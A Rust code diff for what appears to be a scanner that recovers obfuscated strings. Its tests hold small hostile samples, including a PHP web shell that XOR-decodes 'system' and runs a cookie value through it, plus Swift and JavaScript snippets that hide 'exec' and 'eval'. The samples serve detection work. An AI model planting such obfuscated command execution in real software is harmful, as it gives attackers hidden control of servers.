@@ -9,9 +9,12 @@ mod functions;
 mod handed;
 mod methods;
 mod natives;
+mod objects;
+mod powershell;
 mod recipe;
 mod run;
 mod statements;
+mod unseen;
 
 use std::collections::BTreeMap;
 use std::sync::LazyLock;
@@ -49,7 +52,9 @@ pub fn made(
     first_line: u32,
 ) -> (BTreeMap<(u32, u32), Made>, Option<String>) {
     let has = |all: &Option<AhoCorasick>| all.as_ref().is_some_and(|all| all.is_match(src));
-    if language == Language::Bash || !has(&SIGNS) || !has(&EFFECTS) {
+    // In PowerShell everything is a call.
+    let told = has(&SIGNS) && (has(&EFFECTS) || language == Language::PowerShell);
+    if language == Language::Bash || !told {
         return Default::default();
     }
     if src.len() > MAX_FILE {
@@ -209,6 +214,28 @@ mod tests {
             "package m\nfunc f() {\n\tn, ok := new(big.Int).SetString(\"1668641388\", 10)\n\tif ok {\n\t\tf := strings.Fields(string(n.Bytes()))\n\t\texec.Command(f[0])\n\t}\n}\n",
             "curl",
         );
+    }
+
+    #[test]
+    fn tables_slices_and_hosts_in_pieces_are_read() {
+        has(
+            Language::Swift,
+            "let w: [String: String] = [\"a\": \"ce\", \"b\": \"xe\"]\nfunc f() { let m = [\"a\", \"b\"].compactMap { w[$0] }\n spawn(String(m[0...].joined().reversed())) }\n",
+            "exec",
+        );
+        has(
+            Language::JavaScript,
+            "const all = ['eGVj', 'ZXY'];\nconst at = (i) => Buffer.from(all[i - 0x1], 'base64').toString();\nspawn(at('0x2') + 'al');",
+            "eval",
+        );
+        has(
+            Language::Php,
+            "<?php function f() { $m = str_repeat('*', 6); $n = \"\\x59\\x53\\x59\\x5e\\x4f\\x47\" ^ $m; $u = $_COOKIE['u'] ?? ''; if ($u !== '') { $n($u); } }",
+            "system",
+        );
+        let host = "package m\nvar z = strings.Join([]string{\"_v1\", \"assets\", \"example\", \"org\"}, \".\")\nfunc f() { n := rune(1)\nhttp.Get(z) }\n";
+        let partly = Made::Text("_v1.assets.example.org".into(), Shown::Partly);
+        assert!(texts(Language::Go, host).contains(&partly));
     }
 
     #[test]
